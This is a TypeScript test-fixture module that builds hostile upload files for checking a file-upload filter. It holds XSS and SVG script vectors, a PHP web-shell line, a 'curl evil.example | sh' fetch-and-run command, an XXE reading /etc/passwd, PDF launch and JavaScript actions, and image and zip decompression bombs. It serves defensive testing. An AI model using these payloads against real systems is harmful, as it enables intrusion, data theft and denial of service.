import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'

/** The text in everything that may not be stored; searched for in every stored file. */
export const PAYLOAD = 'alert(document.domain)'
export type Hostile = { name: string; bytes: Buffer }

const text = (written: string) => Buffer.from(written, 'latin1')
const hex = (digits: string) => Buffer.from(digits.replace(/\s/g, ''), 'hex')
const padBytes = (bytes: Buffer) => Buffer.concat([bytes, Buffer.alloc(600, 7)])

const SCRIPTS = [
  `<html><script>${PAYLOAD}</script></html>`,
  `<!doctype html><body onload="${PAYLOAD}">`,
  `<?php system($_GET["c"]); /*${PAYLOAD}*/ ?>`,
  `#!/bin/sh\n# ${PAYLOAD}\ncurl evil.example | sh\n`,
  `import fs from "node:fs"; ${PAYLOAD}`,
  `<%@ page import="java.io.*" %><% /*${PAYLOAD}*/ %>`,
  `{"__proto__":{"x":"${PAYLOAD}"}}`,
  `=HYPERLINK("http://evil.example","${PAYLOAD}")`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;${PAYLOAD}</x>`,
  'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
]

const SVG_PARTS = [
  `<script>${PAYLOAD}</script>`,
  `<a xlink:href="javascript:${PAYLOAD}"><text>x</text></a>`,
  `<foreignObject><iframe srcdoc="&lt;script&gt;${PAYLOAD}&lt;/script&gt;"/></foreignObject>`,
  `<image href="x" onerror="${PAYLOAD}"/>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<animate attributeName="href" values="javascript:${PAYLOAD}"/>`,
  `<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>`,
  `<set attributeName="onmouseover" to="${PAYLOAD}"/>`,
  `<handler type="text/javascript">${PAYLOAD}</handler>`,
  `<text>&x;</text>`,
]
const SVG_HEADS = ['', '<?xml version="1.0"?>', '\ufeff', '<!-- a picture -->']
const svgs = SVG_HEADS.flatMap((head) =>
  SVG_PARTS.map((part) =>
    Buffer.from(`${head}<svg xmlns="http://www.w3.org/2000/svg">${part}</svg>`),
  ),
)

/** How other kinds of files begin. */
const BEGINNINGS: Record<string, string> = {
  zip: '504b0304',
  'empty zip': '504b0506',
  gzip: '1f8b08',
  bzip: '425a6839',
  xz: 'fd377a585a00',
  '7z': '377abcaf271c',
  rar: '526172211a0700',
  elf: '7f454c46',
  exe: '4d5a9000',
  macho: 'cffaedfe',
  class: 'cafebabe',
  wasm: '0061736d01000000',
  gif: '474946383961',
  bmp: '424d',
  tiff: '49492a00',
  'big tiff': '4d4d002b',
  ico: '00000100',
  psd: '38425053',
  mp4: '0000001866747970 6d703432',
  heic: '0000001866747970 68656963',
  avif: '0000001866747970 61766966',
  jxl: 'ff0a',
  jp2: '0000000c6a5020200d0a870a',
  ogg: '4f676753',
  mp3: '494433',
  flac: '664c6143',
  webm: '1a45dfa3',
  wav: '52494646 00000000 57415645',
  avi: '52494646 00000000 41564920',
  swf: '435753',
  ttf: '0001000000',
  woff: '774f4646',
  sqlite: '53514c69746520666f726d6174203300',
  doc: 'd0cf11e0a1b11ae1',
  rtf: '7b5c727466',
  ps: '25215053',
  pcap: 'd4c3b2a1',
}

const kinds = ['png', 'jpeg', 'webp'] as const
type Kind = (typeof kinds)[number]
const picture = (format: Kind, side = 24) =>
  sharp({ create: { width: side, height: side, channels: 3, background: '#246' } })
    .toFormat(format)
    .toBuffer()

/** A PDF as it ought to be, with something in its catalogue. */
export function pdf(inCatalogue = '', behind = ''): Buffer {
  const body =
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${inCatalogue} >>\nendobj\n2 0 obj\n<< ` +
    `/Type /Pages /Kids [] /Count 0 >>\nendobj\n${behind}`
  const table =
    `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 3 /Root 1 0 R ` +
    `>>\nstartxref\n${body.length}\n%%EOF\n`

  return text(body + table)
}

const PDF_ACTIONS = [
  `/OpenAction << /S /JavaScript /JS (${PAYLOAD}) >>`,
  `/OpenAction << /S /J#61vaScript /J#53 (${PAYLOAD}) >>`,
  `/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /JS (${PAYLOAD}) >>`,
  `/AA << /O << /S /JavaScript /JS (${PAYLOAD}) >> >>`,
  `/Names << /JavaScript << /Names [(x) 3 0 R] >> >>`,
  `/Names << /EmbeddedFiles << /Names [(x.exe) 3 0 R] >> >>`,
  '/OpenAction << /S /Launch /F (cmd.exe) >>',
  '/OpenAction << /S /L#61unch /F (/bin/sh) >>',
  '/Annots [<< /Subtype /RichMedia >>]',
  '/AcroForm << /XFA 3 0 R >>',
  '/OpenAction << /S /SubmitForm /F (https://evil.example) >>',
  '/OpenAction << /S /ImportData /F (x) >>',
  '/OpenAction << /S /Rendition /JS (x) >>',
  '/EmbeddedFile 3 0 R',
]

function chunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([text(kind), data])
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  size.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([size, body, sum])
}

/** A PNG that says how large it is, and holds what it is given. */
function png(
  width: number,
  height: number,
  {
    depth = 1,
    colour = 0,
    data = Buffer.alloc(64) as Buffer,
    more = Buffer.alloc(0) as Buffer,
  } = {},
) {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head[8] = depth
  head[9] = colour

  const parts = [
    chunk('IHDR', head),
    more,
    chunk('IDAT', deflateSync(data)),
    chunk('IEND', Buffer.alloc(0)),
  ]

  return Buffer.concat([hex('89504e470d0a1a0a'), ...parts])
}

/** A JPEG whose frame says how large it is. */
async function createJpeg(width: number, height: number) {
  const bytes = Buffer.from(await picture('jpeg'))
  const frame = bytes.indexOf(hex('ffc0'))
  bytes.writeUInt16BE(height, frame + 5)
  bytes.writeUInt16BE(width, frame + 7)
  return bytes
}

const bombs = async (): Promise<Hostile[]> => [
  { name: 'png of 65535 by 65535', bytes: png(65_535, 65_535) },
  {
    name: 'png of 30000 by 30000, whole',
    bytes: png(30_000, 30_000, { data: Buffer.alloc(30_000 * 3_751) }),
  },
  { name: 'png of 2147483647 by 1', bytes: png(2_147_483_647, 1) },
  { name: 'png of nothing', bytes: png(0, 0) },
  {
    name: 'png with a text of 64 MiB',
    bytes: png(24, 24, {
      data: Buffer.alloc(96),
      more: chunk('zTXt', Buffer.concat([text('x\0\0'), deflateSync(Buffer.alloc(64 << 20))])),
    }),
  },
  {
    name: 'png with a profile of 64 MiB',
    bytes: png(24, 24, {
      data: Buffer.alloc(96),
      more: chunk('iCCP', Buffer.concat([text('x\0\0'), deflateSync(Buffer.alloc(64 << 20))])),
    }),
  },
  { name: 'jpeg of 65500 by 65500', bytes: await createJpeg(65_500, 65_500) },
  { name: 'jpeg of nothing', bytes: await createJpeg(0, 0) },
  { name: 'gzip of 64 MiB', bytes: gzipSync(Buffer.alloc(64 << 20)) },
  {
    name: 'zip of 64 MiB',
    bytes: Buffer.concat([hex('504b0304140000000800'), deflateRawSync(Buffer.alloc(64 << 20))]),
  },
  { name: 'gif of 65535 by 65535', bytes: padBytes(hex('474946383961ffffffff800000')) },
  {
    name: 'webp that says it is larger',
    bytes: padBytes(
      Buffer.concat([text('RIFF'), hex('ffffffff'), text('WEBPVP8L'), hex('ffffff7f2fffffffff')]),
    ),
  },
]

/** As large as is taken, in the forms that can't be read line by line. */
async function giants(): Promise<Hostile[]> {
  const giant = (side: number) =>
    sharp({ create: { width: side, height: side, channels: 3, background: '#8a6' } })
  return [
    { name: 'giant png', bytes: await giant(4_990).png().toBuffer() },
    {
      name: 'giant png, interlaced',
      bytes: await giant(1_990).png({ progressive: true }).toBuffer(),
    },
    {
      name: 'giant jpeg, progressive',
      bytes: await giant(1_990).jpeg({ progressive: true }).toBuffer(),
    },
    { name: 'giant webp', bytes: await giant(1_990).webp({ effort: 0 }).toBuffer() },
    {
      name: 'giant jpeg, turned',
      bytes: await giant(4_900).withMetadata({ orientation: 6 }).jpeg().toBuffer(),
    },
    {
      name: 'too much at once, png',
      bytes: await giant(2_100).png({ progressive: true }).toBuffer(),
    },
    {
      name: 'too much at once, jpeg',
      bytes: await giant(2_100).jpeg({ progressive: true }).toBuffer(),
    },
    { name: 'too much at once, webp', bytes: await giant(2_100).webp({ effort: 0 }).toBuffer() },
  ]
}

async function carriers(): Promise<Hostile[]> {
  const made: Hostile[] = []
  for (const kind of kinds) {
    const whole = await picture(kind)
    const half = whole.length >> 1

    for (const [at, script] of SCRIPTS.entries()) {
      made.push({
        name: `${kind} with script ${at} behind it`,
        bytes: Buffer.concat([whole, text(script)]),
      })

      made.push({
        name: `${kind} with script ${at} before it`,
        bytes: Buffer.concat([text(script), whole]),
      })
    }

    const taggedPicture = await sharp(whole)
      .withExif({ IFD0: { ImageDescription: PAYLOAD, Copyright: `<script>${PAYLOAD}</script>` } })
      .toFormat(kind)
      .toBuffer()
    made.push({ name: `${kind} with a script in its description`, bytes: taggedPicture })
    made.push({
      name: `${kind} with a zip behind it`,
      bytes: Buffer.concat([
        whole,
        hex('504b0304'),
        text(PAYLOAD),
        hex('504b0506'),
        Buffer.alloc(18),
      ]),
    })

    made.push({
      name: `${kind} with a PDF behind it`,
      bytes: Buffer.concat([whole, pdf(PDF_ACTIONS[0])]),
    })

    made.push({
      name: `${kind} with another's middle`,
      bytes: Buffer.concat([whole.subarray(0, half), text(PAYLOAD), whole.subarray(half)]),
    })

    for (let part = 1; part < 12; part++)
      made.push({
        name: `${kind} cut at ${part} twelfths`,
        bytes: whole.subarray(0, Math.floor((whole.length * part) / 12)),
      })

    for (let at = 0; at < 16; at++) {
      const flipped = Buffer.from(whole)
      const where = Math.floor((flipped.length * at) / 16)
      flipped[where] = (flipped[where] ?? 0) ^ 0x55
      made.push({ name: `${kind} with a wrong byte at ${at} sixteenths`, bytes: flipped })
    }
  }

  const comment = Buffer.concat([
    hex('ffd8fffe'),
    hex('0040'),
    text(PAYLOAD.padEnd(62, ' ')),
    (await picture('jpeg')).subarray(2),
  ])

  return [...made, { name: 'jpeg with a script as its comment', bytes: comment }]
}

function buildHostilePdfs(): Hostile[] {
  const whole = pdf()
  return [
    ...PDF_ACTIONS.map((action, at) => ({ name: `pdf with an action, ${at}`, bytes: pdf(action) })),
    ...PDF_ACTIONS.map((action, at) => ({
      name: `pdf that acts in an object behind, ${at}`,
      bytes: pdf('', `3 0 obj\n<< ${action} >>\nendobj\n`),
    })),
    ...SCRIPTS.map((script, at) => ({
      name: `pdf with script ${at} before it`,
      bytes: Buffer.concat([text(script), whole]),
    })),
    ...Array.from({ length: 10 }, (_, part) => ({
      name: `pdf cut at ${part} tenths`,
      bytes: whole.subarray(0, Math.floor((whole.length * part) / 10)),
    })),
    { name: 'pdf that says it is one and ends', bytes: text('%PDF-1.7\n') },
    {
      name: 'pdf of a version that there is none of',
      bytes: text(`%PDF-9.9\n${whole.toString('latin1').slice(9)}`),
    },
  ]
}

/**
 * Returns every file of the set. None may be stored as a type that it isn't, and nothing of a
 * payload may be stored at all.
 */
export async function hostileFiles(): Promise<Hostile[]> {
  return [
    { name: 'nothing', bytes: Buffer.alloc(0) },
    { name: 'one byte', bytes: Buffer.alloc(1) },
    {
      name: 'one byte too many',
      bytes: Buffer.concat([await picture('png'), Buffer.alloc(10 * 1024 * 1024)]),
    },
    { name: 'zeros up to the limit', bytes: Buffer.alloc(10 * 1024 * 1024) },
    ...SCRIPTS.map((script, at) => ({ name: `script ${at}`, bytes: text(script) })),
    ...svgs.map((bytes, at) => ({ name: `svg ${at}`, bytes })),
    ...Object.entries(BEGINNINGS).map(([name, start]) => ({ name, bytes: padBytes(hex(start)) })),
    ...(await bombs()),
    ...(await giants()),
    ...(await carriers()),
    ...buildHostilePdfs(),
  ]
}
